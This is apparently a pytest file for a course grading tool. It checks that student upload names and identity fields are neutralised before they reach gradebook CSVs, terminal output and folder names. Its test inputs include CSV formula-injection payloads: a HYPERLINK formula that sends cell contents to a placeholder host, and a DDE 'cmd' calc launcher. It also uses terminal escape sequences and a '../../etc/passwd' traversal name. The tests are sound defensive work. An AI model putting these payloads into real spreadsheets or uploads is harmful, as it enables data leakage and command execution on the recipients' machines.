"""What the instructor opens is safe from student text: the gradebook CSVs (no formula a spreadsheet would run), the
terminal (no escape sequence), and OUT's folder names (plain names derived from the uploads)."""

import csv
import io
import pathlib

import nbformat
import pytest

from tools.grade import gradebook, pool
from tools.grade.submissions import Submission
from tools.report import merge_grades, safe_text

EVIL_NAMES = [
    '=HYPERLINK("https://example.invalid/?x="&B3&C3,"Alice Smith")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "Bob \x1b]0;pwned\x07\x1b[2K",
]
ESCAPES = "\x1b]0;pwned\x07\x1b[2K\r[1/1] alice.ipynb: Completed, 73/73"
TRIGGERS = tuple("=+-@\t\r")


def assert_neutral(value):
    assert not value.startswith(TRIGGERS), value
    assert not any(ord(ch) < 32 or ord(ch) == 127 for ch in value), value


def test_cells_are_neutralised_and_numbers_stay_numbers():
    for name in EVIL_NAMES:
        assert_neutral(safe_text.cell(name))
        assert safe_text.cell(name).lstrip("'").replace("\t", "").replace("\r", "") != ""
    assert safe_text.cell(-2.5) == -2.5 and safe_text.cell(3) == 3 and safe_text.cell("Alice") == "Alice"
    assert safe_text.cell("12345") == "12345"  # a SID that looks like a number is no formula


def test_the_terminal_sees_escape_codes_as_text():
    shown = safe_text.terminal(ESCAPES)
    assert "\x1b" not in shown and "\x07" not in shown and "\r" not in shown
    assert "\\x1b]0;pwned\\x07" in shown


def test_folder_names_are_plain_and_never_shared():
    assert safe_text.folder_name("alice.ipynb") == "alice.ipynb"
    names = [ESCAPES + ".ipynb", "../../etc/passwd", ".hidden.ipynb", "a b.ipynb", "a_b.ipynb", "ünï.ipynb", "..", ""]
    folders = [safe_text.folder_name(n) for n in names]
    assert len(set(folders)) == len(folders)
    for folder in folders:
        assert safe_text.PLAIN_NAME.fullmatch(folder) and "/" not in folder and not folder.startswith("."), folder


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_the_gradebook_csv_has_no_formula_cells(tmp_path):
    rows = [
        gradebook.Row(
            Submission(name + ".ipynb", tmp_path / "x.ipynb", {"name": name, "sid": name, "email": name}),
            gradebook.FAILED,
            "the route made no verdict",
        )
        for name in EVIL_NAMES
    ]
    path = gradebook.write_csv(rows, tmp_path, gradescope_export=True)
    table = read_csv(path)
    header = table[0]
    students = [r for r in table[1:] if r[0] != "points-per-question"]  # Otter's own row is left as it is
    assert header[0] == "file" and header[-3:] == ["name", "sid", "email"]  # Otter's columns, then identity
    assert len(students) == len(EVIL_NAMES)
    for row in students:
        for value in row:
            assert_neutral(value)
        assert float(row[header.index("total_points_earned")]) == 0  # numbers stay numbers


def test_the_merged_gradebook_has_no_formula_cells(tmp_path, monkeypatch):
    book = [
        {
            "Name": name,
            "SID": name,
            "Email": f"{k}@x.edu",
            "Code (73)": 70,
            "Written (27)": 20,
            "Total (100)": 90,
            "Notes": name,
        }  # fmt: skip
        for k, name in enumerate(EVIL_NAMES)
    ]
    monkeypatch.setattr(merge_grades, "merge", lambda code, written: book)
    out = tmp_path / "book.csv"
    monkeypatch.setattr("sys.argv", ["merge_grades", "a.csv", "b.csv", "-o", str(out)])
    merge_grades.main()
    table = read_csv(out)
    for row in table[1:]:
        for value in row:
            assert_neutral(value)
        assert row[table[0].index("Total (100)")] == "90"


def test_progress_lines_show_an_upload_names_escape_codes_as_text(tmp_path):
    stream = io.StringIO()
    progress = pool.Progress(1, 1, stream)
    row = gradebook.Row(Submission(ESCAPES + ".ipynb", tmp_path), gradebook.FAILED, "x", None, 1.0, True)
    progress.update(row)
    assert "\x1b" not in stream.getvalue() and "\x07" not in stream.getvalue(), stream.getvalue()


@pytest.mark.route
def test_an_upload_named_with_escape_codes_reaches_no_terminal_csv_or_folder_name(fresh_zip, tmp_path):
    from tools.grade.__main__ import grade_folder

    folder = tmp_path / "uploads"
    folder.mkdir()
    name = ESCAPES.replace("/", " of ") + ".ipynb"  # a file name holds no slash
    (folder / name).write_bytes(b"not a notebook")  # refused by the route in seconds
    nbformat.write(nbformat.v4.new_notebook(), folder / ('=HYPERLINK("x","y").ipynb'))
    stream = io.StringIO()
    out = tmp_path / "out"
    rows, _ = grade_folder(folder, out, fresh_zip, jobs=1, stream=stream)
    assert "\x1b" not in stream.getvalue() and "\x07" not in stream.getvalue(), stream.getvalue()
    for path in out.rglob("*"):
        assert safe_text.PLAIN_NAME.fullmatch(path.name) or path.name.startswith("."), path.name
    table = read_csv(out / gradebook.CSV_NAME)
    for row in (r for r in table[1:] if r[0] != "points-per-question"):
        for value in row:
            assert_neutral(value)
    assert sorted(r.status for r in rows) == [gradebook.REJECTED, gradebook.REJECTED], [r.grading_status for r in rows]
    assert any(r[0] == "points-per-question" and "--" in r for r in table)  # Otter's own row, as Otter writes it
    assert any(pathlib.Path(out / r.submission.folder / "grading.json").exists() for r in rows)
